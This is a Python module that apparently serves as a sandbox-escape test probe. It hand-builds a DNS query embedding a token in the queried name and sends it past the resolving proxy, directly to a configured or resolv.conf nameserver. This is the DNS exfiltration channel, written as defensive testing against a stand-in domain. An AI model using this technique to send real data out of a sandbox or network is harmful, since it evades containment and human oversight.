"""Ask a name server by a query of our own making, past the proxy that resolves names for its clients.

The question holds the token: it need not be answered to have carried it out. The row says who is
asked: an address, or whoever /etc/resolv.conf names; and whether by UDP or TCP.
Sources: coder/httpjail (its tests of DNS exfiltration), github/gh-aw-firewall; RFC 1035 4.1 and 4.2.2.
"""

import errno
import socket
import struct

LOCAL = "127.0.0.1"  # whom resolv.conf(5) asks where it names nobody


def attempt(target):
    """Send the question and wait for an answer; a refused call is the sandbox's answer."""
    if "ready" in target.told:
        target.meet()
    address = target.told.get("address") or named()
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    stream = target.by == "tcp"
    question = asked(target.token)
    target.step("socket")
    connection = socket.socket(family, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM)
    connection.settimeout(2)
    target.step("connect")
    connection.connect((address, target.told.get("port", 53)))
    target.step("send")
    connection.sendall(struct.pack("!H", len(question)) + question if stream else question)
    target.step("recv")
    answer = connection.recv(4096)
    if not answer:
        raise ConnectionResetError(errno.ECONNRESET, "closed without an answer")
    return answer


def named():
    """The first server of /etc/resolv.conf."""
    try:
        with open("/etc/resolv.conf", errors="replace") as settings:
            lines = [line.split() for line in settings]
    except OSError:
        return LOCAL
    return next((words[1] for words in lines if len(words) > 1 and words[0] == "nameserver"), LOCAL)


def asked(token):
    """A query for the address of `token`.lookup.test."""
    name = b"".join(bytes((len(label),)) + label for label in (token.encode(), b"lookup", b"test"))
    return struct.pack("!6H", 0x656D, 0x0100, 1, 0, 0, 0) + name + struct.pack("!B2H", 0, 1, 1)
